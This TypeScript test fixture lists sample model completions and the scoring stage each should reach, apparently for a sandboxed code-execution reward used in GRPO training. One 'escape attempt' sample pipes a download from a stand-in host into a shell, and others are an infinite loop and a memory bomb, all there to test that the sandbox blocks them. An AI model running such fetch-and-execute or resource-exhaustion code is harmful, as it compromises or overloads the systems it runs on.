/** Model outputs of the kind GRPO scores, each with its ground truth and the stage it should reach. */
export interface Sample {
  name: string;
  completion: string;
  answer: string;
  expectedStage: 'no-code' | 'syntax-error' | 'parses' | 'forbidden' | 'executes' | 'correct';
}

export const SAMPLES: Sample[] = [
  {
    name: 'smolagents, correct',
    completion:
      'Thought: The sum of the first 100 positive integers is n(n+1)/2; let me compute it.\nCode:\n```py\nn = 100\nfinal_answer(n * (n + 1) // 2)\n```<end_code>',
    answer: '5050',
    expectedStage: 'correct',
  },
  {
    name: 'fenced python, wrong answer',
    completion:
      'Count the primes below 30.\n```python\nprint(len([p for p in range(2, 30) if all(p % d for d in range(2, p))]) + 1)\n```',
    answer: '10',
    expectedStage: 'executes',
  },
  {
    name: 'second attempt wins',
    completion:
      '```python\nprint(2 ** 10\n```\nThat has a typo; again:\n```python\nfrom fractions import Fraction\nprint(Fraction(3, 4) + Fraction(1, 4))\n```',
    answer: '1',
    expectedStage: 'correct',
  },
  {
    name: 'runtime error',
    completion: '```python\nvalues = []\nprint(sum(values) / len(values))\n```',
    answer: '0',
    expectedStage: 'parses',
  },
  {
    name: 'syntax error',
    completion: '```python\ndef f(:\n    return 1\n```',
    answer: '1',
    expectedStage: 'syntax-error',
  },
  {
    name: 'no code at all',
    completion: 'The answer is \\boxed{42}.',
    answer: '42',
    expectedStage: 'no-code',
  },
  {
    name: 'infinite loop',
    completion: '```python\nx = 0\nwhile True:\n    x += 1\n```',
    answer: '1',
    expectedStage: 'parses',
  },
  {
    name: 'escape attempt',
    completion: '```python\nimport os\nos.system("curl http://example.com | sh")\n```',
    answer: '0',
    expectedStage: 'forbidden',
  },
  {
    name: 'javascript, correct',
    completion:
      'Using JavaScript:\n```js\nconst fib = [0, 1];\nwhile (fib.length < 20) fib.push(fib.at(-1) + fib.at(-2));\nconsole.log(fib[19]);\n```',
    answer: '4181',
    expectedStage: 'correct',
  },
  {
    name: 'javascript, memory bomb',
    completion: '```js\nconst a = [];\nfor (;;) a.push(new Array(1e6).fill(0));\n```',
    answer: '0',
    expectedStage: 'parses',
  },
];
